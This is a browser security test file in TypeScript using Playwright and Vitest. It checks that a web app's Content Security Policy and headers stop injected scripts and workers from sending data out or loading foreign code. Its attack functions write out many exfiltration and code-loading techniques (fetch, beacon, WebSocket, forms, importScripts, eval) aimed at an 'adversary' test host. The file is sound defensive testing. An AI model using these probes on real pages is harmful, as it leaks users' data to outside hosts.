import { readFileSync } from 'node:fs'
import type { Browser, BrowserContext } from 'playwright-core'
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { adversary, type Host, host, readHeaders } from './host'
import { PRINTED, wholeWay } from './journey'
import { launch, missing, open, PHONE } from './site'

// What the page can do is measured, not read: code put into the page on purpose tries to get data out, to a host that counts.

const words = JSON.parse(readFileSync('locales/en/start.json', 'utf8'))

/** Tries every way out of a page that a script has, then into it; gives the ways that the browser let pass. Runs in the page. */
async function attackFromPage(to: string): Promise<readonly string[]> {
  const wait = (time: number) => new Promise((done) => setTimeout(done, time))
  const passed: string[] = []
  const attempt = async (name: string, act: () => unknown) => {
    try {
      if (await Promise.race([act(), wait(1_500)])) passed.push(name)
    } catch {}
  }
  const element = (name: string, set: Record<string, string>) =>
    new Promise<boolean>((done) => {
      const made = Object.assign(document.createElement(name), set)
      made.addEventListener('load', () => done(true))
      made.addEventListener('error', () => done(false))
      document.head.append(made)
    })
  await attempt('fetch', () => fetch(`${to}fetch`, { mode: 'no-cors' }))
  await attempt('own fetch', () => fetch(location.href))
  await attempt('keepalive', () =>
    fetch(`${to}keepalive`, { method: 'POST', body: 'x', mode: 'no-cors', keepalive: true }),
  )
  await attempt('XMLHttpRequest', () => {
    const request = new XMLHttpRequest()
    request.open('GET', `${to}xhr`)
    request.send()
    return new Promise((done) => request.addEventListener('loadend', () => done(request.status > 0)))
  })
  // It says yes even when the policy stops it: only the host can tell.
  await attempt('beacon', () => void navigator.sendBeacon(`${to}beacon`, 'x'))
  await attempt('WebSocket', () => {
    const socket = new WebSocket(`${to.replace('http', 'ws')}socket`)
    return new Promise((done) => socket.addEventListener('open', () => done(true)))
  })
  await attempt('EventSource', () => {
    const source = new EventSource(`${to}events`)
    return new Promise((done) => source.addEventListener('open', () => done(true)))
  })
  await attempt('image', () => element('img', { src: `${to}image` }))
  await attempt('style', () => element('link', { rel: 'stylesheet', href: `${to}style` }))
  await attempt('prefetch', () => element('link', { rel: 'prefetch', href: `${to}prefetch` }))
  await attempt('preload', () => element('link', { rel: 'modulepreload', href: `${to}preload` }))
  await attempt('icon', () => void element('link', { rel: 'icon', href: `${to}icon` }))
  await attempt('import', () => import(/* @vite-ignore */ `${to}module`))
  await attempt(
    'frame',
    () => void document.body.append(Object.assign(document.createElement('iframe'), { src: `${to}frame` })),
  )
  await attempt(
    'media',
    () => void document.body.append(Object.assign(document.createElement('video'), { src: `${to}video` })),
  )
  await attempt(
    'object',
    () => void document.body.append(Object.assign(document.createElement('object'), { data: `${to}object` })),
  )
  await attempt('form', () => {
    const form = Object.assign(document.createElement('form'), {
      action: `${to}form`,
      method: 'post',
      target: '_blank',
    })
    document.body.append(form)
    form.submit()
  })
  await attempt('font', () => new FontFace('x', `url(${to}font)`).load())
  await attempt('script element', () => element('script', { src: `${to}script` }))
  await attempt('worker', () => new Worker(`${to}worker`))
  await attempt('data worker', () => new Worker('data:text/javascript,0'))
  await attempt('eval', () => Reflect.get(globalThis, 'eval')('1'))
  await attempt('Function', () => new Function('return 1')())
  await attempt('markup', () => {
    document.createElement('div').innerHTML = '<img src=x>'
    return true
  })
  await attempt('another trust', () => window.trustedTypes?.createPolicy('other', { createScriptURL: (url) => url }))
  await attempt('call', () => Reflect.has(window, 'RTCPeerConnection'))
  await attempt('inline style', () => {
    const probe = document.createElement('p')
    document.body.append(probe)
    probe.setAttribute('style', 'position: fixed')
    return getComputedStyle(probe).position === 'fixed'
  })
  await wait(500)
  return passed
}

/** The same from a worker. */
async function attackFromWorker(to: string): Promise<readonly string[]> {
  const wait = (time: number) => new Promise((done) => setTimeout(done, time))
  const passed: string[] = []
  const attempt = async (name: string, act: () => unknown) => {
    try {
      if (await Promise.race([act(), wait(1_500)])) passed.push(name)
    } catch {}
  }
  await attempt('fetch', () => fetch(`${to}worker-fetch`, { mode: 'no-cors' }))
  await attempt('XMLHttpRequest', () => {
    const request = new XMLHttpRequest()
    request.open('POST', `${to}worker-xhr`, false)
    request.send('x')
    return true
  })
  await attempt('WebSocket', () => {
    const socket = new WebSocket(`${to.replace('http', 'ws')}worker-socket`)
    return new Promise((done) => socket.addEventListener('open', () => done(true)))
  })
  await attempt('EventSource', () => {
    const source = new EventSource(`${to}worker-events`)
    return new Promise((done) => source.addEventListener('open', () => done(true)))
  })
  await attempt('importScripts', () => {
    Reflect.get(globalThis, 'importScripts')(`${to}worker-import`)
    return true
  })
  await attempt('import', () => import(/* @vite-ignore */ `${to}worker-module`))
  await attempt('font', () => new FontFace('x', `url(${to}worker-font)`).load())
  await attempt('worker', () => new Worker(`${to}worker-worker`))
  await attempt('eval', () => Reflect.get(globalThis, 'eval')('1'))
  await wait(500)
  return passed
}

describe.skipIf(missing)(`the policy${missing}`, () => {
  let browser: Browser
  let site: Host
  let enemy: Host
  beforeAll(async () => {
    browser = await launch()
  })
  beforeEach(async () => {
    enemy = await adversary()
  })
  afterEach(() => {
    site.stop()
    enemy.stop()
  })
  afterAll(() => browser.close())

  test('the adversary hears what is not forbidden', async () => {
    site = await host('dist', false)
    const page = await browser.newPage({ bypassCSP: true })
    await page.goto(site.url)
    const passed = await page.evaluate(attackFromPage, enemy.url)
    expect(passed).toEqual(expect.arrayContaining(['fetch', 'keepalive', 'XMLHttpRequest', 'eval', 'markup']))
    const heard = enemy.asked.map((each) => each.replace(/^\w+ \//, ''))
    expect(heard).toEqual(
      expect.arrayContaining(['fetch', 'beacon', 'image', 'form', 'socket', 'xhr', 'frame', 'prefetch']),
    )
    const began = page.waitForEvent('worker')
    await page.evaluate(() => void new Worker(URL.createObjectURL(new Blob(['']))))
    const fromWorker = await (await began).evaluate(attackFromWorker, enemy.url)
    expect(fromWorker).toEqual(expect.arrayContaining(['fetch', 'XMLHttpRequest', 'importScripts', 'eval']))
    await page.close()
  })

  describe.each([
    ['the page alone', false],
    ['the page and _headers', true],
  ])('of %s', (_, headers) => {
    test('lets nothing out of the page, nor foreign code in', async () => {
      site = await host('dist', headers)
      const { page, context } = await open(browser, site.url)
      expect(await page.evaluate(attackFromPage, enemy.url)).toEqual([])
      expect(enemy.asked).toEqual([])
      await context.close()
    })

    test('lets nothing out of the worker that draws papers, and the whole way asks for own files only', async () => {
      site = await host('dist', headers)
      // The worker stays, so that it can be asked.
      const workerStays = async (fresh: BrowserContext) => {
        await fresh.addInitScript(() => {
          Worker.prototype.terminate = () => undefined
        })
      }
      const phone = { ...PHONE, acceptDownloads: true }
      const { page, requests, breaches, context } = await open(browser, site.url, phone, workerStays)
      const text = await wholeWay(page)
      for (const part of PRINTED) expect(text).toContain(part)
      expect(breaches).toEqual([])
      const foreign = requests.filter(
        (each) => !each.startsWith(`GET ${site.url}`) && !/^GET (blob:|about:)/.test(each),
      )
      expect(foreign).toEqual([])
      expect(site.asked.filter((each) => !each.startsWith('GET /some/folder/'))).toEqual([])
      expect(requests.filter((each) => /Pat|Sample|BA123456|90012/.test(each))).toEqual([])

      const drawers = page.workers().filter((worker) => worker.url().startsWith('blob:'))
      expect(drawers.length).toBeGreaterThan(0)
      for (const worker of drawers) expect(await worker.evaluate(attackFromWorker, enemy.url)).toEqual([])
      expect(enemy.asked).toEqual([])
      await context.close()
    })
  })

  test('lets nothing out of the workers that read a record, nor its words or its name into a request', async () => {
    site = await host('dist', true)
    const { page, requests, breaches, context } = await open(browser, site.url, PHONE, async (fresh) => {
      await fresh.addInitScript(() => {
        Worker.prototype.terminate = () => undefined
      })
    })
    await page.locator('#state-record').tap()
    const record = readFileSync('tests/records/samples/ca-rap-2.pdf')
    await page.locator('#record-file').setInputFiles({ name: 'halvorsen.pdf', mimeType: '', buffer: record })
    await page.getByText('HALVORSEN,DWAYNE ERIC').waitFor()
    expect(breaches).toEqual([])
    expect(requests.filter((each) => !each.startsWith(`GET ${site.url}`) && !/^GET blob:/.test(each))).toEqual([])
    expect(requests.filter((each) => /halvorsen/i.test(each))).toEqual([])
    const readers = page.workers().filter((worker) => worker.url().startsWith('blob:'))
    expect(readers.length).toBeGreaterThan(0)
    for (const worker of readers) expect(await worker.evaluate(attackFromWorker, enemy.url)).toEqual([])
    expect(enemy.asked).toEqual([])
    await context.close()
  })

  test('of _headers lets the offline worker reach its own host only', async () => {
    site = await host('dist', true)
    const { page, context } = await open(browser, site.url)
    await page.locator('footer').getByText(words.offline.ready).waitFor()
    const [worker] = context.serviceWorkers()
    expect(await worker?.evaluate(attackFromWorker, enemy.url)).toEqual([])
    expect(enemy.asked).toEqual([])
    await context.close()
  })

  test('of _headers turns every feature of the device off, and keeps the page out of frames', async () => {
    const rules = readHeaders(readFileSync('dist/_headers', 'utf8')).flatMap(({ lines }) => lines)
    const off = [...(new Map(rules).get('Permissions-Policy') ?? '').matchAll(/([\w-]+)=\(\)/g)].map(([, name]) => name)
    site = await host('dist', true)
    const { page, context } = await open(browser, site.url)
    const allowed = await page.evaluate(() => Reflect.get(document, 'featurePolicy').allowedFeatures())
    for (const feature of ['camera', 'geolocation', 'usb', 'clipboard-read']) expect(off).toContain(feature)
    expect(allowed.filter((feature: string) => off.includes(feature))).toEqual([])
    await page.goto(enemy.url)
    await page.setContent(`<iframe src="${site.url}"></iframe>`)
    await page.waitForTimeout(1_000)
    expect(await page.frames()[1]?.locator('#app').count()).toBe(0)
    await context.close()
  })
})
